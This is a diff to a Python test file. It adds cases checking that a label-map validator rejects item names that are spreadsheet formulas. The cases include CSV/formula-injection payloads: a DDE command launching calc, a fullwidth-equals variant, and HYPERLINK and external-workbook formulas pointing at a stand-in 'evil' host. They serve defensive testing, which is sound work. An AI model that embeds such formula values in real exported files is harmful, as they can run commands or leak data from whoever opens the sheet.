@@ -165,6 +165,9 @@ def test_ids_of_the_file_are_kept_for_what_was_made_with_it() -> None:
         (f"item {{ id: 1 name: '{'long' * 51}' }}", "long... has 204 letters, more than 200; rename it"),
         ("item { id: 1 name: '=cmd|\"/C calc\"!A0' }", "is a formula to a spreadsheet; rename it"),
         ("item { id: 1 name: '@SUM(1+1)' }", "the name '@SUM(1+1)' is a formula to a spreadsheet"),
+        ("item { id: 1 name: '＝SUM(1+1)' }", "is a formula to a spreadsheet"),
+        ("""item { id: 1 name: '=HYPERLINK ("http://evil")' }""", "is a formula to a spreadsheet"),
+        ("""item { id: 1 name: "='http://evil/[x.xlsx]S'!A1" }""", "is a formula to a spreadsheet"),
     ],
 )
 def test_a_wrong_label_map_is_refused_with_its_place(content: str | bytes, reason: str) -> None:
@@ -172,7 +175,7 @@ def test_a_wrong_label_map_is_refused_with_its_place(content: str | bytes, reaso
 
 
 @pytest.mark.parametrize(
-    "name", ["+", "-", "=", "@home", "-1", "=2", "prédio", "a (b)", "C++", "a & b", '"a"', "x" * 200]
+    "name", ["+", "-", "=", "@home", "-1", "=2", "prédio", "a (b)", "-a (1)", "hi!", "C++", "a & b", '"a"', "x" * 200]
 )
 def test_signs_and_accents_are_part_of_a_name(name: str) -> None:
     assert labels.fault(name) == ""
